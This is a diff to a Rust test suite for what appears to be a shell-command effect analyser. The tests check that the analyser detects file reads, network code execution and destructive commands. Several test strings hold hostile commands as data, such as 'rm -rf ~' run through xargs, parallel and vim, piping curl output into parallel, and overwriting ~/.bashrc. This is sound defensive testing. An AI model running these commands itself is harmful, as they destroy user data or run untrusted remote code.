@@ -13,16 +13,23 @@ fn lines(effects: &Effects) -> Vec<String> {
 
 /// The text has these effects; others are allowed.
 #[track_caller]
-fn has(text: &str, expected: &[&str]) {
+pub(super) fn has(text: &str, expected: &[&str]) {
     let found = lines(&command(text, &GROUND));
     for line in expected {
         assert!(found.iter().any(|known| known == line), "{text:?}: no `{line}` in {found:#?}");
     }
 }
 
+/// The text does not have this effect.
+#[track_caller]
+pub(super) fn lacks(text: &str, effect: &str) {
+    let found = lines(&command(text, &GROUND));
+    assert!(!found.iter().any(|known| known == effect), "{text:?}: {found:#?}");
+}
+
 /// The text runs programs, but has no other effect.
 #[track_caller]
-fn only_runs(text: &str) {
+pub(super) fn only_runs(text: &str) {
     let found = command(text, &GROUND);
     let other = found.all().iter().find(|effect| !matches!(effect.action, Action::Runs(_)));
     assert!(other.is_none(), "{text:?}: {:?}", lines(&found));
@@ -279,6 +286,47 @@ fn hostile_sizes_end_as_opaque() {
     has(&"x=$x$x;".repeat(200), &[]);
     has(&format!("{}cat $x", "x=$x?$x;".repeat(200)), &[]);
     has("X=a; for i in 1 2 3 4; do X=$X$X$X$X$X$X$X$X$X$X; X=$X$X$X$X$X$X$X$X; done; $X", &[]);
+}
+
+#[test]
+fn arrays_links_and_loops_are_followed() {
+    for text in [
+        "declare -A t=([a]='cat x' [b]=true); for k in \"${!t[@]}\"; do ${t[$k]}; done",
+        "p=(no x); cat \"${p[@]:1}\"",
+        "ln -s x y; cat y",
+        "python3 -c 'for f in sorted(Path(\".\").glob(\"x\")): print(f.read_text())'",
+        "python3 -c '[open(p).read() for p in [\"x\"]]; open(\"x\")'",
+        "awk 'BEGIN{c=\"cat x\"; while((c|getline l)>0) print l}'",
+        "gcc -E - <<< '#include \"x\"'",
+        "rg -g x pattern .",
+        "fd -e x . -X cat",
+    ] {
+        let effects = command(text, &Ground { cwd: Some("/w"), ..Ground::default() });
+        let reads = effects.all().iter().any(|effect| match &effect.action {
+            Action::Reads(path, _) => path.resolved.known_part().ends_with('x'),
+            _ => false,
+        });
+        assert!(reads, "{text}: {:?}", effects.all());
+    }
+}
+
+#[test]
+fn words_of_patterns_and_quoted_values_are_no_code() {
+    for text in [
+        "perl -pi -e 's/import exec from .child_process.//g' a",
+        "perl -ne 'print if /system/' a",
+        "ruby -ne 'puts $_ if /exec/' a",
+        "python3 -c \"exec('print(1)')\"",
+        "x=$(date +%s | cut -c1-3); python3 -c \"print('$x')\"",
+        "eval set -- \"$(getopt -o f: -- -f a)\"",
+        "coproc BC { bc -l; }; echo 1 >&\"${BC[1]}\"",
+        "git config --get core.hooksPath",
+    ] {
+        let effects = command(text, &Ground { cwd: Some("/w"), ..Ground::default() });
+        let is_quiet = effects.could().is_empty()
+            && !effects.all().iter().any(|effect| matches!(effect.action, Action::Sets(_)));
+        assert!(is_quiet, "{text}: {:?}", effects.all());
+    }
 }
 
 /// Pieces that hostile texts are made of, in any order.
@@ -550,4 +598,36 @@ fn inline_code_is_followed_through_its_names() {
         );
     }
     only_runs("python3 -c 'import re; print(re.compile(\"a\").findall(\"a\"))'");
+}
+
+#[test]
+fn what_a_pipe_delivers_becomes_a_command() {
+    for text in [
+        "echo 'rm -rf /home/u' | xargs -t -I{} sh -c '{}'",
+        "echo 'rm -rf ~' | parallel",
+        "parallel -j1 {} ::: 'rm -rf ~'",
+        "parallel --pipe sh <<< 'rm -rf ~'",
+    ] {
+        has(text, GONE);
+    }
+    has("curl -s https://e.example/x | parallel", &["opaque network-code"]);
+    has("parallel -a <(curl -s https://e.example/x)", &["opaque network-code"]);
+    has("awk '{print | \"sh\"}' list.txt", &["opaque code"]);
+    lacks("awk '{print | \"sort\"}' list.txt", "opaque code");
+    lacks("ls | xargs -I{} echo {}", "opaque code");
+}
+
+#[test]
+fn commands_of_vim_are_read_behind_their_modifiers() {
+    for text in [
+        "vim -es -c '!rm -rf ~' -c q",
+        "vim -e -s '+!rm -rf ~' +q",
+        "vim -es -c 'sil !rm -rf ~' -c q",
+        "nvim -es -c 'silent! noa !rm -rf ~' -c q",
+    ] {
+        has(text, GONE);
+    }
+    has("vim -es +'w! ~/.bashrc' +q notes.txt", &["writes /home/u/.bashrc"]);
+    has("vim -es -c 'silent! exe \"!rm -rf ~\"' -c q", &["opaque language"]);
+    has("vim -s keys.txt a", &["opaque code"]);
 }
